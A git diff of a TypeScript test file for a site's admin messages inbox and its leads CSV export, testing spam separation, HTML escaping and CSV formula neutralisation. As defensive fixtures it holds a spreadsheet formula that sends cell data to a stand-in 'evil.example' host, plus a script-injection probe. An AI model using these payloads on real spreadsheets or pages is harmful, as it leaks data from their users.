@@ -1,6 +1,6 @@
 import { expect } from 'chai';
-import { csvCell, messagesToCsv } from '../../src/services/messages-csv.js';
-import type { ContactMessageRow } from '../../src/db/contact-messages.js';
+import { csvCell, LEAD_CSV_COLUMNS, leadsToCsvRows } from '../../src/services/messages-csv.js';
+import type { LeadRow } from '../../src/db/leads.js';
 import { signIn, STAFF_ENV, type Staff } from '../support/staff.js';
 import { startTestServer, type TestServer } from '../support/test-server.js';
 
@@ -78,8 +78,8 @@ describe('Admin messages inbox', () => {
   });
   after(() => server.close());
 
-  async function inbox(): Promise<string> {
-    const response = await fetch(`${server.url}/admin/messages`, { headers: { Cookie: staff.cookie } });
+  async function inbox(query = ''): Promise<string> {
+    const response = await fetch(`${server.url}/admin/messages${query}`, { headers: { Cookie: staff.cookie } });
     expect(response.status).to.equal(200);
     return text(await response.text());
   }
@@ -102,20 +102,18 @@ describe('Admin messages inbox', () => {
     ((await server.db('contact_messages').where({ id: ids[key] }).first()) as { read_at: string | Date | null })
       .read_at;
 
-  it('lists the leads newest first, with the spam kept apart in its own section', async () => {
-    const html = await inbox();
-    const spamStart = html.indexOf('id="spam-heading"');
-    expect(spamStart).to.be.greaterThan(0);
-    const leads = html.slice(0, spamStart);
-    const spam = html.slice(spamStart);
+  it('lists the leads newest first, with the spam kept apart in a view of its own', async () => {
+    const leads = await inbox();
     const positions = ['Newest lead', 'Middle lead', 'Oldest lead'].map((subject) => leads.indexOf(subject));
     for (const position of positions) expect(position).to.be.greaterThan(0);
     expect(positions).to.deep.equal([...positions].sort((a, b) => a - b));
-    expect(leads.indexOf('Middle lead')).to.be.lessThan(leads.indexOf('Oldest lead'));
     expect(leads).to.not.include('Cheap pills');
+    expect(leads).to.include('Leads (4, 4 unread)');
+    expect(leads).to.include('Flagged as spam (1)</a>');
+    const spam = await inbox('?spam=1');
     expect(spam).to.include('Cheap pills');
-    expect(html).to.include('Leads (4, 4 unread)');
-    expect(html).to.include('Flagged as spam (1)');
+    expect(spam).to.not.include('Newest lead');
+    expect(spam).to.include('Flagged as spam (1)</h2>');
   });
 
   it('shows a message as text: markup in it is escaped, never run', async () => {
@@ -165,25 +163,15 @@ describe('Admin messages inbox', () => {
     const bytes = Buffer.from(await response.arrayBuffer());
     expect([...bytes.subarray(0, 3)], 'UTF-8 BOM for spreadsheets').to.deep.equal([0xef, 0xbb, 0xbf]);
     const [header, ...rows] = parseCsv(bytes.subarray(3).toString('utf8'));
-    expect(header).to.deep.equal([
-      'id',
-      'created_at',
-      'firstname',
-      'lastname',
-      'email',
-      'phone',
-      'subject',
-      'message',
-      'source_page',
-      'is_spam',
-      'read_at',
-    ]);
+    // Every lead with its kind and context (contract, "Leads with context").
+    expect(header).to.deep.equal([...LEAD_CSV_COLUMNS]);
+    expect(rows.map((row) => row[1])).to.deep.equal(Array<string>(MESSAGES.length).fill('message'));
     expect(rows).to.have.length(MESSAGES.length);
-    const subjects = rows.map((row) => row[6]);
-    expect(subjects).to.deep.equal(['Cheap pills', 'Newest lead', 'Middle lead', 'Oldest lead', "'-2"]);
-    expect(rows.map((row) => row[9])).to.deep.equal(['yes', 'no', 'no', 'no', 'no']);
+    const column = (name: string) => rows.map((row) => row[LEAD_CSV_COLUMNS.indexOf(name as 'id')]);
+    expect(column('subject')).to.deep.equal(['Cheap pills', 'Newest lead', 'Middle lead', 'Oldest lead', "'-2"]);
+    expect(column('is_spam')).to.deep.equal(['yes', 'no', 'no', 'no', 'no']);
     // The same ISO 8601 UTC form on SQLite and PostgreSQL.
-    expect(rows.map((row) => row[1])).to.deep.equal([
+    expect(column('created_at')).to.deep.equal([
       '2026-01-04T08:00:00.000Z',
       '2026-01-03T16:30:00.000Z',
       '2026-01-02T12:00:00.000Z',
@@ -195,13 +183,14 @@ describe('Admin messages inbox', () => {
   it('neutralises formulas in the CSV (= + - @ get a leading apostrophe) and doubles quotes', async () => {
     // text() drops the BOM, as a spreadsheet does.
     const body = await (await fetch(`${server.url}/admin/messages.csv`, { headers: { Cookie: staff.cookie } })).text();
-    expect(body.startsWith('id,created_at,')).to.equal(true);
+    expect(body.startsWith('id,kind,created_at,')).to.equal(true);
     const rows = parseCsv(body);
     const formula = rows.find((row) => row[0] === String(ids.formula)) as string[];
-    expect(formula[2]).to.equal(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`);
-    expect(formula[3]).to.equal("'+1");
-    expect(formula[6]).to.equal("'-2");
-    expect(formula[7]).to.equal(`'@SUM(A1:A9)\nHe said "call me" <script>alert(1)</script>`);
+    const cell = (name: string) => formula[LEAD_CSV_COLUMNS.indexOf(name as 'id')];
+    expect(cell('firstname')).to.equal(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`);
+    expect(cell('lastname')).to.equal("'+1");
+    expect(cell('subject')).to.equal("'-2");
+    expect(cell('message')).to.equal(`'@SUM(A1:A9)\nHe said "call me" <script>alert(1)</script>`);
     // On the wire every cell is quoted and inner quotes are doubled.
     expect(body).to.include(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
     expect(body).to.include(`He said ""call me""`);
@@ -254,23 +243,35 @@ describe('Admin messages inbox', () => {
   });
 });
 
-describe('messagesToCsv', () => {
-  const row = (fields: Partial<ContactMessageRow>): ContactMessageRow =>
-    ({
-      id: 1,
-      created_at: '2026-01-01 00:00:00',
-      firstname: 'A',
-      lastname: 'B',
-      email: 'a@example.com',
-      phone: '(303) 555-0100',
-      subject: 'S',
-      message: 'M',
-      source_page: null,
-      user_agent: null,
-      is_spam: false,
-      read_at: null,
-      ...fields,
-    }) as ContactMessageRow;
+describe('leadsToCsvRows', () => {
+  const row = (fields: Partial<LeadRow>): LeadRow => ({
+    kind: 'message',
+    id: 1,
+    created_at: '2026-01-01T00:00:00.000Z',
+    firstname: 'A',
+    lastname: 'B',
+    email: 'a@example.com',
+    phone: '(303) 555-0100',
+    subject: 'S',
+    message: 'M',
+    source_page: null,
+    is_spam: false,
+    read_at: null,
+    tour_start: null,
+    tour_status: null,
+    lead_status: 'new',
+    notes: '',
+    utm_source: null,
+    utm_medium: null,
+    utm_campaign: null,
+    utm_term: null,
+    utm_content: null,
+    referrer: null,
+    landing_page: null,
+    homesite: null,
+    plan: null,
+    ...fields,
+  });
 
   it('prefixes every dangerous first character, including tab and carriage return', () => {
     for (const value of ['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1'])
@@ -284,10 +285,10 @@ describe('messagesToCsv', () => {
     expect(csvCell('say "hi"')).to.equal('"say ""hi"""');
   });
 
-  it('ends every row with CRLF and leaves out the user agent', () => {
-    const csv = messagesToCsv([row({ user_agent: 'SecretBrowser/1.0' }), row({ id: 2 })]);
-    expect(csv.split('\r\n')).to.have.length(4);
+  it('ends every row with CRLF, one cell per column', () => {
+    const csv = leadsToCsvRows([row({}), row({ id: 2, kind: 'tour', tour_start: '2026-12-01T17:00:00.000Z' })]);
+    expect(csv.split('\r\n')).to.have.length(3);
     expect(csv.endsWith('\r\n')).to.equal(true);
-    expect(csv).to.not.include('SecretBrowser');
+    expect(csv.split('\r\n')[1]!.split('","')).to.have.length(LEAD_CSV_COLUMNS.length);
   });
 });
